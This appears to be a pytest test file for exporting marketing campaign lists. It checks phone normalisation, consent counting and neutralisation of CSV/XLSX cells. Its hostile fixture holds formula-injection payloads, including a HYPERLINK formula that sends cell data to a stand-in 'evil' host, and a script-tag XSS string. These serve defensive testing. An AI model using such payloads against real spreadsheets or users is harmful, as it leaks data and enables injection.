"""Campaign lists: consent and contacts counted, phones in E.164, and the files' cells safe
and exact when read back (CSV and XLSX)."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest

from retention.audiences.contacts import check_region, e164, valid_email
from retention.audiences.export import (
    FILE_COLUMNS,
    ExportOptions,
    campaign_csv,
    campaign_list,
    campaign_xlsx,
)

D = dt.date(2025, 6, 30)


@pytest.mark.parametrize(("text", "region", "expected"), [
    ("+976 8812 3456", None, "+97688123456"),      # Mongolia
    ("00976 8812 3456", "AM", "+97688123456"),     # 00: Armenia's international prefix
    ("8812 3456", "MN", "+97688123456"),
    ("+374 77 123456", None, "+37477123456"),      # Armenia
    ("077 123456", "AM", "+37477123456"),
    ("+995 555 12 34 56", None, "+995555123456"),  # Georgia
    ("+998 91 234 56 78", None, "+998912345678"),  # Uzbekistan
    ("8 (912) 345-67-89", "RU", "+79123456789"),   # Russia, local format
    ("+7 771 000 9998", None, "+77710009998"),     # Kazakhstan
    ("97688123456", None, "+97688123456"),         # the '+' a spreadsheet dropped
    (97688123456.0, None, "+97688123456"),         # ... or a phone read as a number
    ("8 (912) 345-67-89", None, None),             # local without a region: not guessed
    ("12345", "RU", None),
    ("+7 000 000 0000", None, None),
    ("=1+2", "RU", None),
    ("", None, None),
    (None, None, None),
])
def test_phones_are_validated_for_their_country_and_written_in_e164(text, region, expected):
    assert e164(text, region) == expected


def test_emails_are_checked_by_the_registry_rule_and_regions_by_phonenumbers():
    assert valid_email("  Ann@Example.org ") == "ann@example.org"
    assert [valid_email(v) for v in ("no-at", "a@b", "two@@x.org", "a b@x.org", None, "")] == [
        None] * 6
    assert check_region(" ru ") == "RU"
    assert check_region("") is None
    with pytest.raises(ValueError, match="not a country code"):
        check_region("XX")


def members(rows):
    """Audience members as segment_members returns them (the columns the list reads)."""
    frame = pd.DataFrame(rows, columns=["customer_id", "step", "email", "phone", "email_opt_in",
                                        "sms_opt_in", "first_name", "last_name", "reason"])
    return frame.astype({"email_opt_in": "boolean", "sms_opt_in": "boolean"})


MEMBERS = members([
    ("c1", "buyer", "one@example.org", "+97688123456", True, True, "Анна", "Ёлкина", "r1"),
    ("c2", "buyer", "bad-address", "8812 3456", True, False, "Bo", "Li", "r2"),
    ("c3", "repeat", "three@example.org", "12", True, True, "Cy", "Do", "r3"),
    ("c4", "repeat", "four@example.org", "+374 77 123456", False, True, "Di", "Ek", "r4"),
    ("c5", "loyal", "five@example.org", None, None, None, "Ed", "Fo", "r5"),
])


def test_consent_then_contact_are_excluded_and_counted():
    email = campaign_list(MEMBERS, "vip", ExportOptions("email", control_share=0), as_of=D)
    # c4 said no, c5 never said (no consent); c2's address is not valid (no contact)
    assert (email.customers, email.excluded_no_consent, email.excluded_no_contact,
            email.exported) == (5, 2, 1, 2)
    assert email.rows["customer_id"].tolist() == ["c1", "c3"]
    # the other channel's contact comes along when it is valid, else stays empty
    assert email.rows["phone"].tolist() == ["+97688123456", None]

    sms = campaign_list(MEMBERS, "vip", ExportOptions("sms", control_share=0,
                                                      default_region="MN"), as_of=D)
    # c2 has no SMS consent, c5 none at all; c3's "12" is no phone
    assert (sms.excluded_no_consent, sms.excluded_no_contact, sms.exported) == (2, 1, 2)
    assert sms.rows[["customer_id", "phone"]].values.tolist() == [
        ["c1", "+97688123456"], ["c4", "+37477123456"]]
    digits = campaign_list(MEMBERS, "vip", ExportOptions("sms", control_share=0,
                                                         phone_format="digits"), as_of=D)
    assert digits.rows["phone"].tolist() == ["97688123456", "37477123456"]


def test_the_file_has_the_columns_import_tools_map_and_the_group():
    listed = campaign_list(MEMBERS, "vip", ExportOptions("email", control_share=0.5, seed=1),
                           as_of=D)
    frame = pd.read_csv(io.BytesIO(campaign_csv(listed.rows)), encoding="utf-8-sig",
                        dtype=str, keep_default_na=False)
    assert tuple(frame.columns) == FILE_COLUMNS
    assert set(frame["group"]) <= {"control", "treatment"}
    assert (frame["tags"] == "vip," + frame["group"]).all()
    assert (frame["segment"] == "vip").all()
    assert frame["reason"].tolist() == ["r1", "r3"]
    assert (listed.control, listed.treatment) == ((frame["group"] == "control").sum(),
                                                  (frame["group"] == "treatment").sum())


HOSTILE = members([
    ("=cmd", "buyer", "x1@example.org", "+97688123456", True, True,
     '=HYPERLINK("http://evil/?"&A1,"Click")', "+SUM(1)", "-2+3"),
    ("c2", "buyer", "x2@example.org", "+7 771 000 9998", True, True, "@SUM(A1)", "\tTab",
     "\rReturn"),
    ("c3", "buyer", "x3@example.org", None, True, True, "<script>alert(1)</script>",
     'O"Brien, Jr.\nsecond line', "Ёлка «ёж» 🎄"),
])
NEUTRALISED = {
    "first_name": ["'=HYPERLINK(\"http://evil/?\"&A1,\"Click\")", "'@SUM(A1)",
                   "<script>alert(1)</script>"],
    "last_name": ["'+SUM(1)", "'\tTab", 'O"Brien, Jr.\nsecond line'],
    "reason": ["'-2+3", "'\rReturn", "Ёлка «ёж» 🎄"],
    "customer_id": ["'=cmd", "c2", "c3"],
    "phone": ["+97688123456", "+77710009998", ""],
    "segment": ["'=x"] * 3,
}


def hostile_list(phone_format="e164"):
    return campaign_list(HOSTILE, "=x", ExportOptions("email", control_share=0,
                                                      phone_format=phone_format), as_of=D)


def test_csv_cells_are_neutralised_except_validated_phones_and_read_back_exactly():
    data = campaign_csv(hostile_list().rows)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str,
                        keep_default_na=False)
    for column, expected in NEUTRALISED.items():
        assert frame[column].tolist() == expected, column


def test_xlsx_cells_are_neutralised_and_phones_are_text_cells():
    sheet = openpyxl.load_workbook(io.BytesIO(campaign_xlsx(hostile_list().rows))).active
    header = [cell.value for cell in sheet[1]]
    assert tuple(header) == FILE_COLUMNS
    rows = list(sheet.iter_rows(min_row=2))
    for column, expected in NEUTRALISED.items():
        position = header.index(column)
        # OOXML writes a carriage return as the escape _x000D_, which Excel reads back as one
        found = [(row[position].value or "").replace("_x000D_", "\r") for row in rows]
        assert found == expected, column
        assert all(row[position].data_type != "f" for row in rows)
    phone = header.index("phone")
    assert [rows[0][phone].data_type, rows[1][phone].data_type] == ["s", "s"]


def test_digit_phones_stay_text_in_both_files():
    rows = hostile_list("digits").rows
    frame = pd.read_csv(io.BytesIO(campaign_csv(rows)), encoding="utf-8-sig", dtype=str,
                        keep_default_na=False)
    assert frame["phone"].tolist() == ["97688123456", "77710009998", ""]
    sheet = openpyxl.load_workbook(io.BytesIO(campaign_xlsx(rows))).active
    phone = [cell.value for cell in sheet[1]].index("phone")
    cell = sheet.cell(row=2, column=phone + 1)
    assert (cell.value, cell.data_type) == ("97688123456", "s")


def test_export_options_refuse_what_cannot_be_used():
    with pytest.raises(ValueError):
        ExportOptions("fax")
    with pytest.raises(ValueError):
        ExportOptions("email", control_share=1)
    with pytest.raises(ValueError):
        ExportOptions("sms", phone_format="local")
    options = ExportOptions("sms", 0.2, 7, "digits", "kz")
    assert options.default_region == "KZ"
    assert ExportOptions.from_dict(options.as_dict()) == options
